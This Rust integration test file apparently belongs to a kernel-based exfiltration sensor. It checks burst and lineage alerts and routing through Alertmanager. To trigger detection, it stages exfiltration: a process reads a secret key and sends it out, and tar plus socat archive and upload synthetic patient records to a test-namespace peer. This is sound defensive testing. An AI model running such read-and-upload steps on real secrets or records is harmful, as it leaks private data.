//! Detection against the real kernel: an 80 MiB upload is a `burst` within 30 s naming its
//! service and destination; a process that reads a secret and sends it out, and an archive
//! of patient records uploaded by another process, are `lineage`; a large loopback transfer
//! and a large ordinary file read raise nothing. A burst posted to a real Alertmanager running
//! the shipped deploy/alertmanager/alertmanager.yml reaches the receiver that file routes it
//! to, and resolves there.

use std::{
    path::{Path, PathBuf},
    process::Command,
    time::{Duration, Instant},
};

use exfil_tests::{
    Agent, Alertmanager, NetNs, Proc, ServiceCgroup, WebhookReceiver, require_root,
    shipped_alertmanager_config, socket_addr, traffic,
};
use serde::Deserialize;

#[derive(Debug, Clone, Deserialize)]
struct Alert {
    id: u64,
    kind: String,
    service: String,
    destination: String,
    pid: u32,
    comm: String,
    bytes: u64,
    class: Option<String>,
    status: String,
}

impl Alert {
    /// What a lineage alert says: service, destination, sender pid, bytes and file class.
    fn lineage(&self) -> (&str, &str, u32, u64, Option<&str>) {
        (
            self.service.as_str(),
            self.destination.as_str(),
            self.pid,
            self.bytes,
            self.class.as_deref(),
        )
    }
}

/// Interval records of 2 s: alerts come at most 2 s after a threshold is crossed.
const INTERVAL: Duration = Duration::from_secs(2);

fn alerts(agent: &Agent) -> Vec<Alert> {
    agent.alerts()
}

/// Waits up to `within` for an alert that `matches`.
fn wait_for(agent: &Agent, within: Duration, matches: impl Fn(&Alert) -> bool) -> Option<Alert> {
    agent.wait_for_alert(within, matches)
}

/// `exfil-traffic send tcp` from a process in `cgroup`, with extra environment.
fn send_from(
    cgroup: &ServiceCgroup,
    to: &str,
    bytes: u64,
    via: &str,
    env: &[(&str, &Path)],
) -> Proc {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_exfil-traffic"));
    cmd.args(["send", "tcp", to, &bytes.to_string(), via]);
    for (k, v) in env {
        cmd.env(k, v);
    }
    cgroup.place(&mut cmd).expect("place in the cgroup");
    Proc::spawn(cmd, "sender").expect("sender")
}

/// A directory of its own under the test target dir (on the disk: tmpfs has no page cache
/// path the sensor sees).
fn fresh_dir(name: &str) -> PathBuf {
    let dir =
        PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join(format!("{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).expect("mkdir");
    dir
}

fn write_file(path: &Path, size: usize, seed: u8) {
    let data: Vec<u8> = (0..size)
        .map(|i| (i as u8).wrapping_mul(31).wrapping_add(seed))
        .collect();
    std::fs::write(path, data).expect("write test file");
}

#[test]
fn an_80_mib_upload_is_one_burst_naming_service_and_destination() {
    require_root();
    const SIZE: u64 = 80 << 20;
    let ns = NetNs::outside().expect("namespace");
    let agent = Agent::start_with_interval(INTERVAL, "").expect("agent");
    let unit = "exfil-e2e-burst.service";
    let cgroup = ServiceCgroup::create(unit).expect("cgroup");
    let (mut sink, port) = traffic!().sink(&ns, "tcp", ns.peer_ip).expect("sink");
    let start = Instant::now();
    let mut upload = send_from(&cgroup, &socket_addr(ns.peer_ip, port), SIZE, "write", &[]);
    assert_eq!(upload.expect_line::<u64>("sent").expect("sent"), SIZE);
    assert_eq!(sink.expect_line::<u64>("received").expect("received"), SIZE);

    let burst = wait_for(
        &agent,
        Duration::from_secs(30).saturating_sub(start.elapsed()),
        |a| a.kind == "burst",
    )
    .expect("a burst alert within 30 s of the upload's start");
    assert_eq!(
        (
            burst.service.as_str(),
            burst.destination.as_str(),
            burst.pid,
            burst.comm.as_str(),
            burst.status.as_str()
        ),
        (unit, ns.peer_ip, upload.pid(), "exfil-traffic", "firing")
    );
    // The episode holds every byte of the upload once the last interval is in.
    let whole = wait_for(&agent, Duration::from_secs(10), |a| {
        a.id == burst.id && a.bytes >= SIZE
    })
    .expect("the alert grows to the upload's size");
    assert_eq!(whole.bytes, SIZE);
    std::thread::sleep(INTERVAL * 2);
    let all = alerts(&agent);
    assert_eq!(all.len(), 1, "one alert, no duplicates: {all:?}");
    assert_eq!(
        agent
            .metric("exfil_sensor_alerts_total{kind=\"burst\"}")
            .expect("metric"),
        1
    );
}

#[test]
fn reading_a_secret_then_sending_it_out_is_lineage() {
    require_root();
    let ns = NetNs::outside().expect("namespace");
    let dir = fresh_dir("secrets");
    let secret = dir.join("id_backup.key");
    write_file(&secret, 5_000, 7);
    let agent = Agent::start_with_interval(
        INTERVAL,
        &format!("[files]\nsecrets = [\"{}\"]\n", dir.display()),
    )
    .expect("agent");
    let unit = "exfil-e2e-leak.service";
    let cgroup = ServiceCgroup::create(unit).expect("cgroup");
    let (mut sink, port) = traffic!().sink(&ns, "tcp", ns.peer_ip).expect("sink");
    let mut leak = send_from(
        &cgroup,
        &socket_addr(ns.peer_ip, port),
        5_100,
        "write",
        &[("EXFIL_TRAFFIC_READ_FIRST", &secret)],
    );
    assert_eq!(leak.expect_line::<u64>("sent").expect("sent"), 5_100);
    assert_eq!(
        sink.expect_line::<u64>("received").expect("received"),
        5_100
    );
    let alert = wait_for(&agent, Duration::from_secs(20), |a| a.kind == "lineage")
        .expect("a lineage alert");
    assert_eq!(
        alert.lineage(),
        (unit, ns.peer_ip, leak.pid(), 5_100, Some("secrets"))
    );
    std::fs::remove_dir_all(&dir).expect("cleanup");
}

#[test]
fn an_archive_of_records_uploaded_by_another_process_is_lineage_naming_records() {
    require_root();
    let ns = NetNs::outside().expect("namespace");
    let dir = fresh_dir("records");
    let records = dir.join("pgdata");
    std::fs::create_dir_all(&records).expect("mkdir");
    for i in 0..3u8 {
        write_file(&records.join(format!("patients.{i}")), 4 << 20, i);
    }
    let archive = dir.join("dump.tar");
    let agent = Agent::start_with_interval(
        INTERVAL,
        &format!("[files]\nrecords = [\"{}\"]\n", records.display()),
    )
    .expect("agent");
    // An intruder's shell archives the records with tar ...
    let shell = ServiceCgroup::create("exfil-e2e-shell.service").expect("cgroup");
    let mut tar = Command::new("tar");
    tar.arg("cf").arg(&archive).arg("-C").arg(&records).arg(".");
    shell.place(&mut tar).expect("place tar");
    let status = tar.status().expect("tar runs");
    assert!(status.success(), "tar: {status}");
    let size = std::fs::metadata(&archive).expect("archive").len();
    // ... and, a few polls later, socat in another service uploads the archive: a separate
    // program that never read the records.
    std::thread::sleep(exfil_tests::POLL * 3);
    let uploader = ServiceCgroup::create("exfil-e2e-upload.service").expect("cgroup");
    let (mut sink, port) = traffic!().sink(&ns, "tcp", ns.peer_ip).expect("sink");
    let mut socat = Command::new("socat");
    socat
        .arg("-u")
        .arg(format!("OPEN:{}", archive.display()))
        .arg(format!("TCP:{}", socket_addr(ns.peer_ip, port)));
    uploader.place(&mut socat).expect("place socat");
    let upload = Proc::spawn(socat, "socat").expect("socat");
    let socat_pid = upload.pid();
    upload.finish().expect("socat uploads the archive");
    assert_eq!(sink.expect_line::<u64>("received").expect("received"), size);
    let alert = wait_for(&agent, Duration::from_secs(20), |a| a.kind == "lineage")
        .expect("a lineage alert");
    assert_eq!(
        alert.lineage(),
        (
            "exfil-e2e-upload.service",
            ns.peer_ip,
            socat_pid,
            size,
            Some("records")
        )
    );
    std::fs::remove_dir_all(&dir).expect("cleanup");
}

#[test]
fn loopback_transfers_and_ordinary_reads_raise_nothing() {
    require_root();
    const LOOPBACK: u64 = 300 << 20;
    const FILE: usize = 200 << 20;
    let dir = fresh_dir("ordinary");
    let file = dir.join("video.bin");
    write_file(&file, FILE, 3);
    let inode = std::os::unix::fs::MetadataExt::ino(&std::fs::metadata(&file).expect("stat"));
    let agent = Agent::start_with_interval(INTERVAL, "").expect("agent");
    let (mut sink, port) = traffic!().sink_local("tcp", "127.0.0.1").expect("sink");
    let mut sender = traffic!()
        .send(&[
            "send",
            "tcp",
            &socket_addr("127.0.0.1", port),
            &LOOPBACK.to_string(),
        ])
        .expect("sender");
    assert_eq!(sender.expect_line::<u64>("sent").expect("sent"), LOOPBACK);
    assert_eq!(
        sink.expect_line::<u64>("received").expect("received"),
        LOOPBACK
    );
    let mut reader = traffic!()
        .send(&["read", file.to_str().expect("utf-8"), "1048576"])
        .expect("reader");
    assert_eq!(
        reader.expect_line::<u64>("read").expect("read"),
        FILE as u64
    );
    // Both were counted ...
    let flow = agent
        .settled_flow(sender.pid(), "127.0.0.1", port, "tcp", LOOPBACK)
        .expect("API")
        .expect("the loopback flow");
    assert_eq!(flow.bytes_sent, LOOPBACK);
    let deadline = Instant::now() + Duration::from_secs(10);
    let read = loop {
        let read: u64 = agent
            .files()
            .expect("files")
            .iter()
            .filter(|f| f.pid == reader.pid() && f.inode == inode)
            .map(|f| f.bytes_read)
            .sum();
        if read >= FILE as u64 || Instant::now() > deadline {
            break read;
        }
        std::thread::sleep(exfil_tests::POLL);
    };
    assert_eq!(read, FILE as u64);
    // ... through two more interval records, and nothing was raised.
    std::thread::sleep(INTERVAL * 2 + exfil_tests::POLL * 2);
    let all = alerts(&agent);
    assert!(all.is_empty(), "{all:?}");
    std::fs::remove_dir_all(&dir).expect("cleanup");
}

/// The notifications Alertmanager's webhook receivers got that carry the burst of `unit`:
/// (the receiver's path, the notification).
fn burst_notifications(webhook: &WebhookReceiver, unit: &str) -> Vec<(String, serde_json::Value)> {
    webhook
        .answered(200)
        .into_iter()
        .filter_map(|r| {
            let body: serde_json::Value = serde_json::from_slice(&r.body).ok()?;
            let ours = body["alerts"]
                .as_array()?
                .iter()
                .any(|a| a["labels"]["kind"] == "burst" && a["labels"]["service"] == unit);
            ours.then_some((r.path, body))
        })
        .collect()
}

/// Waits up to `within` for a notification of the burst of `unit` whose status is `status`.
fn wait_for_notification(
    webhook: &WebhookReceiver,
    unit: &str,
    status: &str,
    within: Duration,
) -> (String, serde_json::Value) {
    let deadline = Instant::now() + within;
    loop {
        if let Some(found) = burst_notifications(webhook, unit)
            .into_iter()
            .find(|(_, n)| n["status"] == status)
        {
            return found;
        }
        assert!(
            Instant::now() < deadline,
            "no {status} notification of the burst within {within:?}: {:?}",
            burst_notifications(webhook, unit)
        );
        std::thread::sleep(exfil_tests::POLL);
    }
}

/// The shipped alertmanager.yml, in a real Alertmanager: its receivers' webhooks (the only
/// thing changed) post to a receiver of the test. The agent's burst arrives with its labels,
/// is routed to `security` and notified there at once (`group_wait: 0s`), grouped by
/// alertname, instance, service and destination; once resolved it is no longer active, and
/// `security` hears of the end (`send_resolved`) at the group's next flush, a
/// `group_interval` (1m) after the first.
#[test]
fn a_burst_reaches_a_real_alertmanager_with_its_labels_and_resolves_there() {
    require_root();
    const SIZE: u64 = 60 << 20;
    let webhook =
        WebhookReceiver::start("127.0.0.1:0".parse().expect("addr"), 200).expect("receiver");
    let config = shipped_alertmanager_config(webhook.addr).expect("the shipped config");
    let am = Alertmanager::start(&config).expect("Alertmanager on the shipped config");
    let ns = NetNs::outside().expect("namespace");
    // Episodes end after 4 s without traffic (10 min by default).
    let agent = Agent::start_with_interval(
        INTERVAL,
        &format!(
            "[alerts.alertmanager]\nurl = \"http://{}\"\n[detect]\nquiet = \"4s\"\n",
            am.addr
        ),
    )
    .expect("agent");
    let unit = "exfil-e2e-am.service";
    let cgroup = ServiceCgroup::create(unit).expect("cgroup");
    let (mut sink, port) = traffic!().sink(&ns, "tcp", ns.peer_ip).expect("sink");
    let mut upload = send_from(&cgroup, &socket_addr(ns.peer_ip, port), SIZE, "write", &[]);
    assert_eq!(upload.expect_line::<u64>("sent").expect("sent"), SIZE);
    assert_eq!(sink.expect_line::<u64>("received").expect("received"), SIZE);
    let raised = wait_for(&agent, Duration::from_secs(20), |a| a.kind == "burst").expect("burst");

    let deadline = Instant::now() + Duration::from_secs(20);
    let alert = loop {
        if let Some(a) = am
            .alerts()
            .expect("GET /api/v2/alerts")
            .into_iter()
            .find(|a| a["labels"]["kind"] == "burst")
        {
            break a;
        }
        assert!(
            Instant::now() < deadline,
            "no alert reached Alertmanager:\n{}",
            am.log()
        );
        std::thread::sleep(exfil_tests::POLL);
    };
    let hostname = std::fs::read_to_string("/proc/sys/kernel/hostname").expect("hostname");
    let hostname = hostname.trim();
    let labels = &alert["labels"];
    let label = |name: &str| labels[name].as_str().unwrap_or_default().to_owned();
    assert_eq!(
        (
            label("alertname"),
            label("kind"),
            label("severity"),
            label("service"),
            label("destination"),
            label("instance"),
        ),
        (
            "ExfilSensorBurst".to_owned(),
            "burst".to_owned(),
            "critical".to_owned(),
            unit.to_owned(),
            ns.peer_ip.to_owned(),
            hostname.to_owned(),
        )
    );
    assert_eq!(alert["status"]["state"], "active");
    assert_eq!(alert["annotations"]["alert_id"], raised.id.to_string());
    assert!(
        alert["annotations"]["summary"]
            .as_str()
            .is_some_and(|s| s.contains(ns.peer_ip)),
        "{alert}"
    );
    // Data leaving: the shipped route's receiver is security ...
    assert_eq!(
        alert["receivers"],
        serde_json::json!([{ "name": "security" }]),
        "{alert}"
    );
    // ... whose webhook is notified at once, the group being this service and destination.
    let group = serde_json::json!({
        "alertname": "ExfilSensorBurst",
        "instance": hostname,
        "service": unit,
        "destination": ns.peer_ip,
    });
    let (path, firing) = wait_for_notification(&webhook, unit, "firing", Duration::from_secs(20));
    assert_eq!(
        (path.as_str(), &firing["receiver"], &firing["groupLabels"]),
        ("/security", &serde_json::json!("security"), &group),
        "{firing}"
    );

    // The upload is over: the episode resolves after the quiet period, and Alertmanager,
    // told the end time, no longer lists the alert as firing.
    let resolved = wait_for(&agent, Duration::from_secs(20), |a| {
        a.id == raised.id && a.status == "resolved"
    })
    .expect("the burst resolves after 4 s of quiet");
    assert_eq!(resolved.bytes, SIZE);
    let deadline = Instant::now() + Duration::from_secs(20);
    while am
        .alerts()
        .expect("GET /api/v2/alerts")
        .iter()
        .any(|a| a["labels"]["kind"] == "burst" && a["status"]["state"] == "active")
    {
        assert!(
            Instant::now() < deadline,
            "Alertmanager still lists the resolved alert as active"
        );
        std::thread::sleep(exfil_tests::POLL);
    }
    let (path, ended) = wait_for_notification(&webhook, unit, "resolved", Duration::from_secs(90));
    assert_eq!(
        (path.as_str(), &ended["groupLabels"]),
        ("/security", &group),
        "{ended}"
    );
    assert_eq!(ended["alerts"][0]["status"], "resolved", "{ended}");
    // Every notification of the burst went to security, none to operations.
    let paths: Vec<String> = burst_notifications(&webhook, unit)
        .into_iter()
        .map(|(path, _)| path)
        .collect();
    assert!(paths.iter().all(|p| p == "/security"), "{paths:?}");
}
